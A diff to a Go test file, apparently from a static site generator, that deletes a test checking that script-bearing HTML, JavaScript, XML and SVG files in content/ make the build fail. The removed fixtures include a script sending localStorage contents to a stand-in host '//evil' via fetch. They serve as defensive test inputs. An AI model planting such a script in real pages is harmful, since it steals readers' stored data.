@@ -2,8 +2,6 @@ package content
 
 import (
 	"bytes"
-	"os"
-	"path/filepath"
 	"strings"
 	"testing"
 )
@@ -89,50 +87,4 @@ func FuzzCheckSVG(f *testing.F) {
 			t.Fatalf("accepted an image with a script: %q", src)
 		}
 	})
-}
-
-// TestActiveContent builds sites with files that can run scripts in
-// content/: each is refused with its path, unless the site trusts its
-// HTML; clean SVG images pass.
-func TestActiveContent(t *testing.T) {
-	for _, trust := range []string{"", "trustHTML: true\n", "markdown: {unsafe: true}\n"} {
-		dir := minimalSite(t)
-		writeFile(t, dir, "content/site.yaml", "title: T\nbaseURL: https://example.org/\n"+trust)
-		writeFile(t, dir, "content/resources.html", "<script>fetch('//evil/?'+JSON.stringify(localStorage))</script>\n")
-		writeFile(t, dir, "content/js/steal.js", "fetch('//evil')\n")
-		writeFile(t, dir, "content/feed/data.XML", "<x/>\n")
-		writeFile(t, dir, "content/img/evil.svg", `<svg xmlns="http://www.w3.org/2000/svg">`+"\n"+`<script>x()</script></svg>`)
-		writeFile(t, dir, "content/img/clean.svg", `<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>`)
-		writeFile(t, dir, "content/guides/a.md", "---\ntitle: A\n---\n![a circle](../img/clean.svg)\n")
-		out := filepath.Join(dir, "public")
-		_, err := New(Options{Dir: dir, Out: out}).Build()
-		if trust != "" {
-			if err != nil {
-				t.Fatalf("%strusted: %v", trust, err)
-			}
-			continue
-		}
-		want := []string{
-			"content/feed/data.XML: an XML file in content/ is published as it is, and a script in it could read what readers saved on this site, worksheet answers included: write the page in Markdown instead; if you trust every file of this site, set trustHTML: true in content/site.yaml",
-			"content/img/evil.svg:2:9: it has a <script> element: an SVG image may hold no script, event attribute or reference to another file, since opened on its own it would run with the site's rights; if you trust every file of this site, set trustHTML: true in content/site.yaml",
-			"content/js/steal.js: a JavaScript file in content/",
-			"content/resources.html: an HTML page in content/",
-		}
-		got := ""
-		if err != nil {
-			got = err.Error()
-		}
-		lines := strings.Split(got, "\n")
-		if len(lines) != len(want) {
-			t.Fatalf("errors:\n%s", got)
-		}
-		for i := range want {
-			if !strings.HasPrefix(lines[i], want[i]) {
-				t.Errorf("error %d:\n%s\nwant\n%s", i, lines[i], want[i])
-			}
-		}
-		if _, err := os.Stat(out); err == nil {
-			t.Error("a refused build wrote its output")
-		}
-	}
 }
